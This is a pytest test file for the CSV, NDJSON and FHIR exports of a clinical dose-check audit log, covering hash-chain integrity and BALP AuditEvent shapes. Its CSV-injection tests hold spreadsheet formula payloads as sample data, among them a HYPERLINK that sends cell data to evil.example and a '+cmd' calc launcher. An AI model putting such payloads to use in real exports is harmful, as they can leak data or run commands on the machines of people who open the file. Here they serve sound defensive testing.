"""Exports: CSV re-imports to the same records, NDJSON parses, the FHIR Bundle validates with R4B."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta
from typing import Any

import pytest
from fhir.resources.R4B.auditevent import AuditEvent
from fhir.resources.R4B.bundle import Bundle
from sqlalchemy import select

from audit.balp_support import (
    DCM,
    ENTITY_TYPE,
    REST,
    V3_PARTICIPATION,
    X_REQUEST_ID,
    agents_by_type,
    entities_by_type,
    record_details,
)
from audit.helpers import START, fill
from plugin.audit.export import export_records, import_csv, write_csv
from plugin.audit.log import AuditEntry, record
from plugin.audit.models import (
    AUDIT_TABLE,
    EXPORT_FIELDS,
    GENESIS_HASH,
    compute_hash,
    record_as_dict,
    record_as_json,
)
from plugin.db import Database


def stored_records(db: Database) -> list[dict[str, Any]]:
    """Return every stored record as typed dicts in seq order."""
    with db.engine.connect() as connection:
        rows = connection.execute(select(AUDIT_TABLE).order_by(AUDIT_TABLE.c.seq)).mappings().all()
    return [record_as_dict(dict(row)) for row in rows]


def export(db: Database, fmt: str, **filters: Any) -> tuple[int, str]:
    """Return (count, text) of an export."""
    out = io.StringIO()
    count = export_records(db, fmt=fmt, out=out, **filters)  # type: ignore[arg-type]
    return count, out.getvalue()


@pytest.fixture
def filled(any_db: Database) -> Database:
    """Return a database with 20 varied records and two awkward ones (quotes, newlines, refusals)."""
    fill(any_db, 20)
    record(
        any_db,
        AuditEntry(
            actor="cds-client:https://ehr.example.org/fhir",
            actor_role="cds",
            action="writeback.refused",
            patient_id="456",
            iss="https://ehr.example.org/fhir",
            override_reason_code="other",
            override_reason_text='Line one, with "quotes"\nline two; ünïcödé',
            detail={"reason": "403 from EHR", "nested": {"list": [1, 2.5, None, True]}},
        ),
        now=START + timedelta(days=2),
    )
    record(
        any_db,
        AuditEntry(actor="system", actor_role="system", action="audit.view"),
        now=START + timedelta(days=3),
    )
    return any_db


def test_csv_reimports_to_the_same_records(filled: Database) -> None:
    count, text = export(filled, "csv")
    assert count == 22
    imported = import_csv(text)
    assert imported == stored_records(filled)
    assert all(compute_hash(row) == row["hash"] for row in imported)  # the chain survives the export


def test_csv_filters_by_patient_and_since(filled: Database) -> None:
    count, text = export(filled, "csv", patient_id="456")
    assert count == 1 and import_csv(text)[0]["action"] == "writeback.refused"
    count, text = export(filled, "csv", since=(START + timedelta(days=2)).date())
    assert count == 2 and [row["seq"] for row in import_csv(text)] == [21, 22]
    count, text = export(filled, "csv", since=date(2030, 1, 1))
    assert count == 0 and import_csv(text) == []


def test_import_csv_refuses_a_foreign_file() -> None:
    with pytest.raises(ValueError, match="header"):
        import_csv("a,b\n1,2\n")


# What spreadsheets may run as a formula (OWASP CSV injection), fullwidth forms included.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
# Values that already start with the escape quote: it must be escaped too, or the import could not tell.
QUOTED_STARTS = ("'", "''", "'=1+1", "'plain", "'-3", "' ")


def raw_rows(text: str) -> list[dict[str, str]]:
    """Return the data rows of a CSV export as raw cells by column name (what a spreadsheet opens)."""
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert tuple(header) == EXPORT_FIELDS
    return [dict(zip(header, row, strict=True)) for row in rows]


def record_texts(db: Database, values: tuple[str, ...]) -> None:
    """Append one override per value, with the value as reason text and as the start of actor and request id."""
    for index, value in enumerate(values):
        record(
            db,
            AuditEntry(
                actor=f"{value}actor",
                actor_role="clinician",
                action="dose-change.override",
                patient_id="123",
                override_reason_code="other",
                override_reason_text=value,
                request_id=f"{value}req",
                dose_before_ug_per_day=-5.0,
                dose_after_ug_per_day=400.0,
            ),
            now=START + timedelta(minutes=index),
        )


def assert_chain_verifies(rows: list[dict[str, Any]]) -> None:
    """Assert that re-imported rows recompute their hashes and link up from the genesis hash."""
    prev_hash = GENESIS_HASH
    for seq, row in enumerate(rows, start=1):
        assert row["seq"] == seq and row["prev_hash"] == prev_hash
        assert compute_hash(row) == row["hash"]
        prev_hash = row["hash"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_prefixes_a_quote_to_free_text_a_spreadsheet_would_run(any_db: Database, start: str) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    record_texts(any_db, (payload,))
    _, text = export(any_db, "csv")
    (row,) = raw_rows(text)
    assert row["override_reason_text"] == f"'{payload}"
    assert row["request_id"] == f"'{payload}req"  # a nullable text field
    assert row["actor"] == f"'{payload}actor"  # a required text field
    text_cells = [cell for name, cell in row.items() if not name.startswith("dose_")]
    assert not [cell for cell in text_cells if cell.startswith(FORMULA_STARTS)]


def test_csv_escapes_the_classic_payloads_in_the_raw_text(any_db: Database) -> None:
    payloads = ("@SUM(1+1)", "+cmd|' /C calc'!A0", "=1+1", "-2+3")
    record_texts(any_db, payloads)
    _, text = export(any_db, "csv")
    assert "'@SUM(1+1)" in text and ",'=1+1," in text and ",'-2+3," in text
    assert ",@SUM" not in text and ",=1+1" not in text and ",-2+3" not in text
    assert [row["override_reason_text"] for row in raw_rows(text)] == [f"'{value}" for value in payloads]


def test_csv_formula_escape_round_trips_exactly_and_the_chain_verifies(any_db: Database) -> None:
    values = (*FORMULA_STARTS, *(f"{start}x" for start in FORMULA_STARTS), *QUOTED_STARTS, "a'", "x=1")
    record_texts(any_db, values)
    _, text = export(any_db, "csv")
    raw = [row["override_reason_text"] for row in raw_rows(text)]
    assert raw == [f"'{value}" if value.startswith((*FORMULA_STARTS, "'")) else value for value in values]
    assert raw[values.index("'")] == "''" and raw[values.index("''")] == "'''"
    imported = import_csv(text)
    assert imported == stored_records(any_db)
    assert [row["override_reason_text"] for row in imported] == list(values)
    assert [row["request_id"] for row in imported] == [f"{value}req" for value in values]
    assert_chain_verifies(imported)


def test_csv_leaves_numbers_and_ordinary_text_alone_but_escapes_the_same_text(any_db: Database) -> None:
    record_texts(any_db, ("-5.0", "Spasms wake the patient; «reviewed» = fine"))
    _, text = export(any_db, "csv")
    negative, ordinary = raw_rows(text)
    assert negative["dose_before_ug_per_day"] == "-5.0"  # a number cell, not escaped
    assert negative["override_reason_text"] == "'-5.0"  # the same characters as text are
    assert ordinary["override_reason_text"] == "Spasms wake the patient; «reviewed» = fine"
    assert ordinary["seq"] == "2" and ordinary["recorded_at"] == "2026-11-20T10:01:00.000000+00:00"
    assert ordinary["finding_codes"] == "[]" and ordinary["detail"] == "{}"
    imported = import_csv(text)
    assert imported[0]["dose_before_ug_per_day"] == -5.0 and imported[0]["override_reason_text"] == "-5.0"


def test_import_csv_still_reads_an_empty_cell_as_null_and_a_lone_quote_as_text(filled: Database) -> None:
    (stored,) = [row for row in stored_records(filled) if row["action"] == "audit.view"]
    out = io.StringIO()
    write_csv(iter([{**stored, "override_reason_text": "", "request_id": "'", "iss": "''"}]), out)
    (row,) = raw_rows(out.getvalue())
    assert row["override_reason_text"] == "" and row["request_id"] == "''" and row["iss"] == "'''"
    (imported,) = import_csv(out.getvalue())
    assert imported["override_reason_text"] is None  # as before: an empty cell is null
    assert imported["request_id"] == "'" and imported["iss"] == "''"


def test_ndjson_has_one_parseable_record_per_line(filled: Database) -> None:
    count, text = export(filled, "ndjson")
    lines = text.splitlines()
    assert count == len(lines) == 22
    parsed = [json.loads(line) for line in lines]
    assert parsed == [record_as_json(row) for row in stored_records(filled)]
    assert parsed[0]["recorded_at"] == "2026-11-20T10:00:00.000000+00:00"


def test_fhir_bundle_validates_with_r4b_and_has_one_audit_event_per_record(filled: Database) -> None:
    count, text = export(filled, "fhir")
    bundle = Bundle.model_validate(json.loads(text))
    assert bundle.type == "collection" and bundle.entry is not None
    assert count == len(bundle.entry) == 22
    records = stored_records(filled)
    for entry, stored in zip(bundle.entry, records, strict=True):
        assert entry.resource is not None
        event = AuditEvent.model_validate(entry.resource.model_dump())
        details = {d.type: d.valueString for e in event.entity or [] for d in e.detail or []}
        assert details["hash"] == stored["hash"] and details["seq"] == str(stored["seq"])
        assert event.id == stored["id"]


def assert_balp_rest(event: dict[str, Any], *, interaction: str, user_type: str, request_id: str) -> None:
    """Assert the slices BALP's Patient{Read,Create,Update} profiles require of one event."""
    assert event["type"] == REST
    assert event["subtype"][0] == {
        "system": "http://hl7.org/fhir/restful-interaction",
        "code": interaction,
        "display": interaction,
    }
    assert event["action"] == {"read": "R", "create": "C", "update": "U"}[interaction]
    assert event["outcome"] == "0"
    agents = agents_by_type(event)
    # read: data flows server -> client, so the client is the Destination; otherwise the Source.
    client_code, server_code = ("110152", "110153") if interaction == "read" else ("110153", "110152")
    (client,) = agents[(DCM, client_code)]
    (server,) = agents[(DCM, server_code)]
    assert client["who"] == {"display": "ITB Dose Check"} and client["requestor"] is False
    assert server["who"]["identifier"]["value"] == "https://ehr.example.org/fhir"
    assert server["network"] == {"address": "https://ehr.example.org/fhir", "type": "5"}
    assert server["requestor"] is False
    (user,) = agents[(V3_PARTICIPATION, user_type)]
    assert user["who"] == {"reference": "Practitioner/pr-1"} and user["name"] == "Practitioner/pr-1"
    assert user["requestor"] is True and "network" not in user
    assert [a for a in event["agent"] if a["requestor"]] == [user]
    entities = entities_by_type(event)
    (patient,) = entities[(ENTITY_TYPE, "1")]
    assert patient["what"] == {"reference": "Patient/123"}
    assert patient["role"]["system"] == "http://terminology.hl7.org/CodeSystem/object-role"
    assert patient["role"]["code"] == "1"
    (data,) = entities[(ENTITY_TYPE, "2")]  # BALP: exactly one entity[data]
    assert data["role"]["code"] == "4" and "what" in data
    (transaction,) = entities[X_REQUEST_ID]
    assert transaction["what"] == {"identifier": {"value": request_id}}


def test_audit_event_follows_balp_shapes(filled: Database) -> None:
    _, text = export(filled, "fhir")
    events = [entry["resource"] for entry in json.loads(text)["entry"]]
    read, _, proposal, filed, verified = events[:5]
    assert_balp_rest(read, interaction="read", user_type="IRCP", request_id="req-0")  # launch.read-record
    assert_balp_rest(proposal, interaction="create", user_type="AUT", request_id="req-2")
    assert_balp_rest(filed, interaction="create", user_type="AUT", request_id="req-3")
    assert_balp_rest(verified, interaction="update", user_type="AUT", request_id="req-4")
    assert [e["subtype"][1]["code"] for e in (read, proposal, filed, verified)] == [
        "launch.read-record",
        "dose-change.propose",
        "writeback.filed",
        "verification.verify",
    ]
    assert verified["agent"][0]["role"] == [{"text": "pharmacist"}]
    assert read["source"]["observer"]["display"] == "ITB Dose Check"
    assert {e["type"]["code"] for e in events} == {"rest"}
    assert {e["subtype"][0]["code"] for e in events[:5]} == {"read", "operation", "create", "update"}
    (data,) = entities_by_type(filed)[(ENTITY_TYPE, "2")]
    assert data["what"] == {"reference": "MedicationRequest/mr-3"}
    (other,) = entities_by_type(filed)[("http://hl7.org/fhir/resource-types", "MedicationStatement")]
    assert other["what"] == {"reference": "MedicationStatement/abc"} and other["role"]["code"] == "4"
    details = record_details(verified)
    assert details["dose_after_ug_per_day"] == "404.0" and details["verdict"] == "pass"
    assert details["request_id"] == "req-4" and details["seq"] == "5"
    refused = events[20]  # writeback.refused by a CDS client: a failure, and no person
    assert refused["outcome"] == "4" and refused["outcomeDesc"] == "403 from EHR"
    assert refused["agent"][0]["who"] == {"display": "cds-client:https://ehr.example.org/fhir"}
    assert refused["agent"][0]["type"]["coding"][0]["code"] == "110150"  # Application, not a user
    assert X_REQUEST_ID not in entities_by_type(refused)  # it had no request id
    viewed = events[21]  # audit.view by the system, no EHR: a client but no server agent
    assert [a["type"]["coding"][0]["code"] for a in viewed["agent"]] == ["110150", "110152"]


def test_the_hash_chain_is_recoverable_from_the_fhir_export(filled: Database) -> None:
    _, text = export(filled, "fhir")
    events = [entry["resource"] for entry in json.loads(text)["entry"]]
    stored = stored_records(filled)
    assert len(events) == len(stored) == 22
    for event, original in zip(events, stored, strict=True):
        rebuilt = from_audit_event(event)
        assert rebuilt == record_as_json(original)
        assert compute_hash(rebuilt) == rebuilt["hash"] == original["hash"]


def from_audit_event(event: dict[str, Any]) -> dict[str, Any]:
    """Rebuild an audit record (NDJSON form) from an exported AuditEvent, as an independent checker would."""
    details = record_details(event)
    (actor,) = [a for a in event["agent"] if a["requestor"]]
    patients = entities_by_type(event).get((ENTITY_TYPE, "1"), [])
    text = details.get

    def number(name: str) -> float | None:
        value = text(name)
        return None if value is None else float(value)

    return {
        "seq": int(details["seq"]),
        "id": event["id"],
        "recorded_at": event["recorded"],
        "actor": actor["name"],
        "actor_role": actor["role"][0]["text"],
        "patient_id": patients[0]["what"]["reference"].removeprefix("Patient/") if patients else None,
        "iss": text("iss"),
        "action": details["action"],
        "dose_before_ug_per_day": number("dose_before_ug_per_day"),
        "dose_after_ug_per_day": number("dose_after_ug_per_day"),
        "verdict": text("verdict"),
        "finding_codes": json.loads(text("finding_codes") or "[]"),
        "override_reason_code": text("override_reason_code"),
        "override_reason_text": text("override_reason_text"),
        "related": json.loads(text("related") or "[]"),
        "request_id": text("request_id"),
        "detail": json.loads(text("detail") or "{}"),
        "prev_hash": details["prev_hash"],
        "hash": details["hash"],
    }


def test_empty_fhir_export_is_a_valid_bundle(any_db: Database) -> None:
    count, text = export(any_db, "fhir")
    assert count == 0 and Bundle.model_validate(json.loads(text)).entry is None
